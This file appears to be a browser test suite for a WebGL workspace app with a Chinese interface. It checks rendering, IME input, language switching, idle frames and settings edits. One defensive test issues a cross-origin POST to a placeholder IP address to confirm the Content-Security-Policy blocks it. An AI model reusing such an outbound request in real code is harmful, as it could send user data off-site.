// foundation.test.mjs — the app shell in real Chromium: it renders (not blank) with Chinese UI,
// stays on its origin, takes Chinese typing through the IME bridge, keeps it across a reload,
// switches language, and draws nothing while idle.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import path from "node:path";
import fs from "node:fs";
import { launch, openApp, state, settle, selectTab, clickWidget, OUT } from "./harness.mjs";
import { decodePng, pixelStats } from "./png.mjs";

let env;
before(async () => { env = await launch(); });
after(async () => { await env.browser.close(); env.server.close(); });

test("the canvas renders the demo workspace in Chinese, and no request leaves the origin", async () => {
  const logs = [];
  const ctx0 = await env.browser.newContext({ viewport: { width: 1280, height: 800 }, deviceScaleFactor: 1 });
  ctx0.on("console", (m) => logs.push(m.text()));
  const { page, ctx, requests, errors, firstFrameMs } = await openApp(env.browser, env.origin, { context: ctx0 });
  await settle(page);
  const s = await state(page);
  assert.equal(s.language, "zh");
  assert.equal(s.tab, "dashboard");
  assert.ok(s.customers >= 1000, `demo customers loaded: ${s.customers}`);
  assert.equal(s.workspace.format, "yutang.workspace");
  assert.ok(s.workspace.payload.roles.personas.length >= 2);
  const png = await page.screenshot({ path: path.join(OUT, "dashboard-zh.png") });
  const stats = pixelStats(decodePng(png));
  assert.ok(stats.colours > 8, `the canvas shows more than a flat colour (${stats.colours} colours)`);
  assert.ok(stats.dominantShare < 0.97, `not blank (dominant colour ${stats.dominantShare})`);
  const gl = await page.evaluate(() => {
    const c = document.getElementById("canvas");
    const ctx = c.getContext("webgl2");
    return { lost: ctx ? ctx.isContextLost() : true, w: c.width, h: c.height };
  });
  assert.equal(gl.lost, false);
  assert.ok(gl.w >= 1000 && gl.h >= 700, `canvas follows the window (${gl.w}x${gl.h})`);
  for (const u of requests) assert.ok(u.startsWith(env.origin + "/"), `request stays on origin: ${u}`);
  assert.deepEqual(errors, []);
  fs.writeFileSync(path.join(OUT, "first-frame-ms.txt"), `${firstFrameMs}\n`);
  const atlas = logs.find((l) => l.startsWith("font atlas"));
  assert.ok(atlas, "the app reports its font atlas");
  fs.writeFileSync(path.join(OUT, "font-atlas.txt"), atlas + "\n");
  console.log(atlas);
  console.log(`first frame after ${firstFrameMs} ms`);
  await ctx.close();
});

test("the Content-Security-Policy blocks requests to other origins", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  const blocked = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.blockedURI));
    let failed = false;
    try { await fetch("http://198.51.100.7/upload", { method: "POST", body: "x" }); } catch (e) { failed = true; }
    await new Promise((r) => setTimeout(r, 100));
    return { failed, violations };
  });
  assert.equal(blocked.failed, true);
  assert.ok(blocked.violations.some((u) => u.includes("198.51.100.7")));
  await ctx.close();
});

test("typing 私域运营 into the workspace name through the IME bridge renames it, and a reload keeps it", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  await selectTab(page, 5);
  assert.equal((await state(page)).tab, "settings");
  await clickWidget(page, "ws_name");
  assert.equal(await page.evaluate(() => document.activeElement.id), "ime", "the hidden text field has focus");
  await page.keyboard.press("Control+A");
  await page.keyboard.press("Backspace");
  await settle(page);
  await page.keyboard.insertText("私域运营");
  await settle(page);
  await page.keyboard.type("ab");  // ASCII arrives once (through SDL), not twice
  await settle(page);
  let s = await state(page);
  assert.equal(s.workspace.payload.name, "私域运营ab");
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Enter");
  await settle(page);
  s = await state(page);
  assert.equal(s.workspace.payload.name, "私域运营");
  assert.ok(s.saved_seq >= 1);
  await page.screenshot({ path: path.join(OUT, "settings-typed.png") });
  await page.reload();
  await page.waitForFunction(() => window.yutangReady && window.yutang.frames() >= 2);
  s = await state(page);
  assert.equal(s.workspace.payload.name, "私域运营");
  await ctx.close();
});

test("the language switch changes the UI language, and it persists", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  await settle(page);
  const before = await page.screenshot();
  await clickWidget(page, "langswitch");
  let s = await state(page);
  assert.equal(s.language, "en");
  assert.equal(s.workspace.payload.settings.language, "en");
  const afterShot = await page.screenshot({ path: path.join(OUT, "dashboard-en.png") });
  assert.notDeepEqual(decodePng(before).data, decodePng(afterShot).data);
  await page.reload();
  await page.waitForFunction(() => window.yutangReady && window.yutang.frames() >= 2);
  assert.equal((await state(page)).language, "en");
  await clickWidget(page, "langswitch");
  assert.equal((await state(page)).language, "zh");
  await ctx.close();
});

test("no frames are drawn while idle, and input wakes the app", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  await settle(page);
  const f0 = (await state(page)).frame;
  await page.waitForTimeout(2000);
  const f1 = (await state(page)).frame;
  assert.equal(f1, f0, "idle for 2 s: no frames");
  await page.mouse.move(300, 300);
  await page.mouse.move(320, 310);
  await settle(page);
  assert.ok((await state(page)).frame > f1, "mouse movement draws frames");
  await ctx.close();
});

test("every tab renders in the browser", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  const names = ["dashboard", "tiers", "personas", "calendar", "roi", "settings"];
  for (let i = 0; i < names.length; i++) {
    await selectTab(page, i);
    const s = await state(page);
    assert.equal(s.tab, names[i]);
    const stats = pixelStats(decodePng(await page.screenshot({ path: path.join(OUT, `tab-${names[i]}.png`) })));
    assert.ok(stats.colours > 8, `${names[i]} is drawn`);
  }
  await ctx.close();
});

test("a platform rule is edited in Settings: typed value, one undo step, saved", async () => {
  const { page, ctx } = await openApp(env.browser, env.origin);
  await selectTab(page, 5);
  const before = (await state(page)).workspace.payload.rules.find((r) => r.id === "wechat.friend_cap").value;
  assert.equal(before, 5000);
  await clickWidget(page, "rule.wechat.friend_cap");
  await page.keyboard.press("Control+A");
  await page.keyboard.press("Backspace");
  await page.keyboard.type("10000");
  await page.keyboard.press("Enter");
  await settle(page);
  let s = await state(page);
  assert.equal(s.workspace.payload.rules.find((r) => r.id === "wechat.friend_cap").value, 10000);
  assert.ok(s.can_undo);
  await page.mouse.click(5, 790);  // leave the field
  await settle(page);
  await page.keyboard.down("Control"); await page.waitForTimeout(50);
  await page.keyboard.down("z"); await page.waitForTimeout(80);
  await page.keyboard.up("z"); await page.keyboard.up("Control");
  await settle(page);
  s = await state(page);
  assert.equal(s.workspace.payload.rules.find((r) => r.id === "wechat.friend_cap").value, 5000);
  await ctx.close();
});
